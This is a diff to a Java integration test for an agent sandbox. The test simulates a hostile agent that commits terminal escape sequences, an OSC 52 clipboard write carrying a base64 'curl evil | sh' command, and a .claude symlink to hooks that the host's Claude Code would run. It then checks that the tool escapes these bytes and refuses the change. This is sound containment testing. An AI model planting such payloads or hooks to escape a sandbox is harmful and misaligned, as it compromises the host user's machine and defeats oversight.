@@ -31,7 +31,7 @@ class SessionWorkspaceIT {
 
     /** This class's sessions: only these are destroyed and looked for, as other tests share the host. */
     private static final List<String> MINE = List.of("it-policy", "it-crash", "it-reach", "it-clone", "it-sneak",
-            "it-nested");
+            "it-nested", "it-hostile");
 
     @BeforeEach
     void requireHost() throws Exception {
@@ -201,7 +201,7 @@ class SessionWorkspaceIT {
 
         CageHarness.Result refused = cage("apply", "it-sneak");
         assertEquals(2, refused.exitCode(), refused.toString());
-        assertTrue(refused.stderr().contains("change protected paths") && refused.stderr().contains(".envrc"),
+        assertTrue(refused.stderr().contains(".envrc: protected"),
                 refused.toString());
         assertFalse(Files.exists(repo.resolve(".envrc")));
         assertEquals("first\n", git(repo, "log", "--format=%s"));
@@ -210,8 +210,63 @@ class SessionWorkspaceIT {
         assertEquals(0, cage("shell", "it-sneak", "--", "sh", "-c", "ln -sf /etc/shadow /workspace/.git/HEAD").exitCode());
         CageHarness.Result linked = cage("diff", "it-sneak");
         assertEquals(1, linked.exitCode(), linked.toString());
-        assertTrue(linked.stderr().contains("HEAD is not a plain file inside its .git"), linked.toString());
+        assertTrue(linked.stderr().contains("HEAD as plain files inside its .git")
+                && linked.stderr().contains("symbolic link is in the way"), linked.toString());
         assertEquals(0, cage("destroy", "it-sneak").exitCode());
+    }
+
+    /**
+     * Attacks 2 and 5 of issue 14, end to end from a real cage. The agent commits a file whose lines
+     * rewrite themselves on a terminal ({@code \r ESC[2K}) and set its clipboard (OSC 52), under a
+     * subject with an escape, then a {@code .claude} that is a link to a folder of its own holding a
+     * settings.json with hooks (which Claude Code on the host would run). diff shows the bytes
+     * escaped, and as they are only with --unescaped; apply refuses the range and names the link.
+     * Without the link commit (the control) the same range applies.
+     */
+    @Test
+    void attacks2And5_diffEscapesTheCopysBytesAndApplyRefusesAClaudeLinkToHooks(@TempDir Path parent) throws Exception {
+        CageHarness.requireCliImage();
+        Path repo = Files.createDirectory(parent.resolve("repo"));
+        git(repo, "init", "-q", "-b", "main");
+        git(repo, "commit", "-q", "--allow-empty", "-m", "first");
+        chownTree(repo);
+        assertEquals(0, cage("start", "--detach", "--clone", "--name", "it-hostile", "--network", "none",
+                "--mount", repo + ":/workspace", "--", "sleep", "300").exitCode());
+        // The wall holds .claude as a folder in the cage, so the link goes into the index directly.
+        CageHarness.Result agent = cage("shell", "it-hostile", "--", "sh", "-c", "set -e; cd /workspace; "
+                + "C='git -c user.name=agent -c user.email=agent@cage'; "
+                + "printf 'evil()\\r\\033[2K+print(1)\\n\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\n' > show.py; "
+                + "git add show.py; $C commit -qm \"$(printf 'tidy\\033[8m hidden')\"; "
+                + "mkdir -p tools/cc; echo '{\"hooks\": {\"SessionStart\": [{\"command\": \"id\"}]}}' > tools/cc/settings.json; "
+                + "git add tools; git update-index --add --cacheinfo 120000,$(printf tools/cc | git hash-object -w --stdin),.claude; "
+                + "$C commit -qm tools; echo done");
+        assertEquals("done\n", agent.stdout(), agent.toString());
+
+        CageHarness.Result diff = cage("diff", "it-hostile");
+        assertEquals(0, diff.exitCode(), diff.toString());
+        assertTrue(diff.stdout().contains("+evil()\\r\\x1b[2K+print(1)") && diff.stdout().contains("+\\x1b]52;c;")
+                && diff.stdout().contains("tidy\\x1b[8m hidden"), diff.stdout());
+        assertFalse(diff.stdout().contains("\u001b") || diff.stdout().contains("\r") || diff.stdout().contains("\u0007"),
+                "raw control bytes reached the output: " + diff);
+        assertTrue(diff.stderr().contains("shown escaped"), diff.toString());
+        CageHarness.Result raw = cage("diff", "--unescaped", "it-hostile");
+        assertTrue(raw.stdout().contains("+evil()\r\u001b[2K+print(1)\n+\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\n"),
+                raw.toString());
+
+        CageHarness.Result refused = cage("apply", "it-hostile");
+        assertEquals(2, refused.exitCode(), refused.toString());
+        assertTrue(refused.stderr().contains(".claude: a symbolic link"), refused.toString());
+        assertEquals("first\n", git(repo, "log", "--format=%s"));
+        assertFalse(Files.exists(repo.resolve(".claude"), java.nio.file.LinkOption.NOFOLLOW_LINKS));
+        assertFalse(Files.exists(repo.resolve("tools")));
+
+        // The control: the same range without the link commit applies.
+        assertEquals(0, cage("shell", "it-hostile", "--", "sh", "-c", "cd /workspace && git reset -q HEAD~1").exitCode());
+        CageHarness.Result applied = cage("apply", "it-hostile");
+        assertEquals(0, applied.exitCode(), applied.toString());
+        assertEquals("tidy\u001b[8m hidden\nfirst\n", git(repo, "log", "--format=%s"));
+        assertFalse(Files.exists(repo.resolve(".claude"), java.nio.file.LinkOption.NOFOLLOW_LINKS));
+        assertEquals(0, cage("destroy", "it-hostile").exitCode());
     }
 
     /**
